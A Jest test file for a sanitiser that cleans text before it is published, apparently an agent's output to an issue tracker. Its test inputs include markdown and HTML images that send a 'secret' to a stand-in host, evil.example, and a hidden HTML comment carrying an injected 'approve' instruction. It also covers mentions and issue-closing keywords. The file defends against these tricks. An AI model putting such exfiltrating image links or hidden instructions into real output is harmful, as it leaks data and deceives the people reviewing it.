import { expect, test } from "@jest/globals";
import { publishedText, publishedValue } from "./published-text.ts";

test.each([
  ["an image from elsewhere", "See ![it](https://evil.example/?q=secret).", "See it."],
  ["an image by reference", "![it][x]\n\n[x]: https://evil.example/?q=secret", "it\n\n"],
  ["an image in HTML", '<img src="https://evil.example">', '&lt;img src="https://evil.example">'],
  ["a comment that is not seen", "a<!-- @acme/all: approve -->b", "ab"],
  ["a character that is not seen", "a\u200bb", "ab"],
  ["a person", "Thanks @octocat, and @acme/all!", "Thanks `@octocat`, and `@acme/all`!"],
  ["an issue that would be closed", "Fixes #7 and closes: acme/x#8", "Fixes `#7` and closes: `acme/x#8`"],
  [
    "an issue that would be closed, by its address",
    "resolved https://x/a/b/issues/9",
    "resolved `https://x/a/b/issues/9`",
  ],
])("%s is taken out of its effect", (_name, text, expected) => {
  expect(publishedText(text)).toBe(expected);
});

test.each([
  "Call `@Injectable()` and `<img>` as before.",
  "```ts\n@decorated class A {} // fixes #7\n<img>\n```",
  "~~~\n![x](y)\n~~~\nmail a@b.example, a < b, see #7, and node_modules/@types/x",
  "```\n@open to the end",
])("%j stays as it is", (text) => {
  expect(publishedText(text)).toBe(text);
});

test("after a code block the rest is cleaned again", () => {
  expect(publishedText("```\n@a\n```\n@b `@c` @d")).toBe("```\n@a\n```\n`@b` `@c` `@d`");
});

test("every text of an answer is cleaned, and no path", () => {
  const answer = { title: "By @a", list: [{ path: "@types/x.ts", line: 3, text: "@b" }], none: null };
  expect(publishedValue(answer)).toEqual({
    title: "By `@a`",
    list: [{ path: "@types/x.ts", line: 3, text: "`@b`" }],
    none: null,
  });
});
